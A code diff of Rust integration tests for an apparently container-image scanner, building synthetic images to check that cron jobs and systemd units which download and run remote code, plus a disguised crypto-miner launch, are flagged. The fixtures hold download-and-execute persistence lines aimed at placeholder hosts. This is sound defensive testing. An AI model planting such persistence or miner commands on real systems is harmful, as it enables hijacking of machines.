@@ -1,9 +1,8 @@
 //! Issue 9 end to end: what an image runs is judged as commands wherever it lives. Images
-//! are written by test code (`imgscan::samples`); the "miner" is a tiny ELF with no miner
+//! are written by test code (`imgscan-testkit`); the "miner" is a tiny ELF with no miner
 //! strings at all, so only the way it is run can give it away.
 
-use imgscan::analyzers::binary::tiny_elf;
-use imgscan::samples::{self, Entry, ImageSpec};
+use imgscan_testkit::{gzip_layers, tiny_elf, Ent, ImageSpec};
 use serde_json::Value;
 use std::process::Command;
 
@@ -11,7 +10,7 @@ const WALLET: &str = "43zqYTWj1JG1H1idZFQWwJZLTos3hbJ5iR3tJpEtwEi43UBbzPeaQxCRys
 
 fn scan(spec: &ImageSpec) -> (i32, Value) {
     let d = tempfile::tempdir().unwrap();
-    samples::write_oci_layout(d.path(), spec).unwrap();
+    imgscan_testkit::single_image_layout(d.path(), spec, "latest");
     let out = Command::new(env!("CARGO_BIN_EXE_imgscan"))
         .env("IMGSCAN_CACHE_DEFAULT", "none")
         .args(["scan", &format!("oci-dir:{}", d.path().display())])
@@ -52,27 +51,26 @@ fn at(doc: &Value, path: &str) -> Vec<(String, String)> {
         .collect()
 }
 
-fn base(run_sh: &str) -> Vec<Entry> {
+fn base(run_sh: &str) -> Vec<Ent> {
     vec![
-        Entry::file("etc/os-release", 0o644, "ID=test\n"),
+        Ent::file("etc/os-release", "ID=test\n"),
         // A "web server" binary that carries nothing a string search could find.
-        Entry::file("usr/sbin/nginx", 0o755, tiny_elf(b"\0plain server\0")),
-        Entry::file(
+        Ent::exe("usr/sbin/nginx", tiny_elf(b"\0plain server\0")),
+        Ent::exe(
             "entrypoint.sh",
-            0o755,
             "#!/bin/sh\nset -e\n. /etc/app.env\nexec /opt/svc/run.sh \"$@\"\n",
         ),
-        Entry::file("etc/app.env", 0o644, "APP_MODE=prod\n"),
-        Entry::file("opt/svc/run.sh", 0o755, run_sh),
+        Ent::file("etc/app.env", "APP_MODE=prod\n"),
+        Ent::exe("opt/svc/run.sh", run_sh),
     ]
 }
 
-fn spec(layers: Vec<Vec<Entry>>) -> ImageSpec {
+/// Gzip layers of `layers`, run as `/entrypoint.sh` (no cmd) with the usual `PATH`.
+fn spec(layers: Vec<Vec<Ent>>) -> ImageSpec {
     ImageSpec {
-        layers,
         entrypoint: vec!["/entrypoint.sh".into()],
-        env: vec!["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin".into()],
-        ..Default::default()
+        cmd: vec![],
+        ..ImageSpec::new(gzip_layers(&layers))
     }
 }
 
@@ -137,7 +135,7 @@ fn the_same_script_nobody_runs_is_medium_and_a_real_server_is_clean() {
     // be HIGH whatever runs it).
     let run = "#!/bin/bash\nnginx -o 203.0.113.9:3333 -a rx/0 --threads=$(nproc)\n";
     let mut layer = base("#!/bin/sh\nexec nginx -g 'daemon off;'\n");
-    layer.push(Entry::file("opt/old/run.sh", 0o755, run));
+    layer.push(Ent::exe("opt/old/run.sh", run));
     let (_, doc) = scan(&spec(vec![layer]));
     let got = at(&doc, "opt/old/run.sh");
     assert!(
@@ -159,26 +157,14 @@ fn the_same_script_nobody_runs_is_medium_and_a_real_server_is_clean() {
 #[test]
 fn cron_and_units_that_download_and_run_are_persistence() {
     let mut layer = base("#!/bin/sh\nexec nginx -g 'daemon off;'\n");
-    layer.push(Entry::file(
-        "etc/cron.d/sysupdate",
-        0o644,
-        "SHELL=/bin/sh\n*/15 * * * * root (curl -fsSL http://198.51.100.7/u.sh || wget -q -O- http://198.51.100.7/u.sh) | sh\n",
+    layer.push(Ent::file("etc/cron.d/sysupdate", "SHELL=/bin/sh\n*/15 * * * * root (curl -fsSL http://198.51.100.7/u.sh || wget -q -O- http://198.51.100.7/u.sh) | sh\n",
     ));
-    layer.push(Entry::file(
-        "etc/systemd/system/cache.service",
-        0o644,
-        "[Service]\nExecStartPre=/usr/bin/wget -q -O /tmp/.c http://198.51.100.7/c\nExecStartPre=/bin/chmod +x /tmp/.c\nExecStart=/tmp/.c\n",
+    layer.push(Ent::file("etc/systemd/system/cache.service", "[Service]\nExecStartPre=/usr/bin/wget -q -O /tmp/.c http://198.51.100.7/c\nExecStartPre=/bin/chmod +x /tmp/.c\nExecStart=/tmp/.c\n",
     ));
     // Debian's own cron entry and an ordinary unit: quiet.
-    layer.push(Entry::file(
-        "etc/cron.d/e2scrub_all",
-        0o644,
-        "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n",
+    layer.push(Ent::file("etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n",
     ));
-    layer.push(Entry::file(
-        "etc/systemd/system/app.service",
-        0o644,
-        "[Service]\nExecStartPre=-/usr/bin/curl -fsS -o /run/app/config.json http://config.internal/app\nExecStart=/usr/sbin/nginx -g 'daemon off;'\n",
+    layer.push(Ent::file("etc/systemd/system/app.service", "[Service]\nExecStartPre=-/usr/bin/curl -fsS -o /run/app/config.json http://config.internal/app\nExecStart=/usr/sbin/nginx -g 'daemon off;'\n",
     ));
     let (code, doc) = scan(&spec(vec![layer]));
     assert_eq!(code, 1);
